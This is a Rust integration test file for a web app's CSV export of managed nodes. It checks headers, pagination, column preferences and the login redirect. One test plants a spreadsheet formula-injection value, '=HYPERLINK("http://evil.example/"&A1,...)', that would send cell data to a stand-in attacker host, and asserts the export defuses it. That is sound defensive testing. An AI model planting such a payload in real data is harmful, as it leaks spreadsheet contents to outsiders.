//! `/nodes.csv`: what the list shows, as a file.

use domain::nodes::ManagedNode;
use domain::permission::Role;

use crate::test_app::{Browser, TestApp};
use crate::world::node;

async fn csv(browser: &Browser, path: &str) -> String {
    let answer = browser.get(path).send().await.unwrap();
    assert_eq!(answer.status(), 200);
    answer.text().await.unwrap()
}

#[tokio::test]
async fn the_file_is_named_and_typed() {
    let app = TestApp::start().await;
    let browser = app.signed_in(Role::Viewer).await;
    let answer = browser.get("/nodes.csv").send().await.unwrap();
    assert_eq!(answer.headers()["content-type"], "text/csv; charset=utf-8; header=present");
    let disposition = &answer.headers()["content-disposition"];
    assert_eq!(disposition, "attachment; filename=\"managed-nodes-2026-11-22.csv\"");
    assert_eq!(answer.headers()["cache-control"], "no-store");
    let bytes = answer.bytes().await.unwrap();
    assert!(bytes.starts_with(b"\xef\xbb\xbfNode ID,"), "{bytes:?}");
}

#[tokio::test]
async fn all_pages_of_what_fits_are_in_it() {
    let app = TestApp::start().await;
    app.world.set_nodes((0..1_234).map(|number| {
        let platform_type = if number % 2 == 0 { "Linux" } else { "Windows" };
        ManagedNode { platform_type: Some(platform_type.to_owned()), ..node(number) }
    }));
    let browser = app.signed_in(Role::Viewer).await;
    let all = csv(&browser, "/nodes.csv").await;
    assert_eq!(all.matches("\r\n").count(), 1_235);
    let some = csv(&browser, "/nodes.csv?platform=Windows&sort=id&desc=1&page=3&size=10").await;
    assert_eq!(some.matches("\r\n").count(), 618);
    let first = some.lines().nth(1).unwrap();
    assert!(first.starts_with(&node(1_233).id), "{first}");
}

#[tokio::test]
async fn the_columns_are_those_that_the_person_sees() {
    let app = TestApp::start().await;
    app.world.set_nodes([ManagedNode { state: Some("running".to_owned()), ..node(1) }]);
    let browser = app.signed_in(Role::Viewer).await;
    let fields = [
        ("columns.nodes", "agent"),
        ("columns.nodes", "state"),
        ("columns.nodes", "last_ping"),
        ("order.nodes", "agent"),
        ("order.nodes", "state"),
        ("order.nodes", "last_ping"),
    ];
    browser.form("/preferences", &fields).send().await.unwrap();
    let text = csv(&browser, "/nodes.csv").await;
    let mut lines = text.lines();
    assert_eq!(lines.next(), Some("\u{feff}Node ID,SSM Agent version,Node state,Last ping"));
    let expected = format!("{},3.3.987.0,Running,2026-11-22T03:00:00Z", node(1).id);
    assert_eq!(lines.next(), Some(expected.as_str()));
}

#[tokio::test]
async fn what_an_agent_says_never_becomes_a_formula() {
    let app = TestApp::start().await;
    let attack = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")";
    app.world.set_nodes([ManagedNode { computer_name: Some(attack.to_owned()), ..node(1) }]);
    let browser = app.signed_in(Role::Viewer).await;
    let text = csv(&browser, "/nodes.csv").await;
    assert!(text.contains(r#""'=HYPERLINK(""http://evil.example/""&A1,""click"")""#), "{text}");
}

#[tokio::test]
async fn who_has_not_signed_in_is_led_there() {
    let app = TestApp::start().await;
    let answer = app.browser().get("/nodes.csv?ping=Online").send().await.unwrap();
    assert_eq!(answer.status(), 303);
    assert_eq!(answer.headers()["location"], "/login?next=%2Fnodes.csv%3Fping%3DOnline");
}
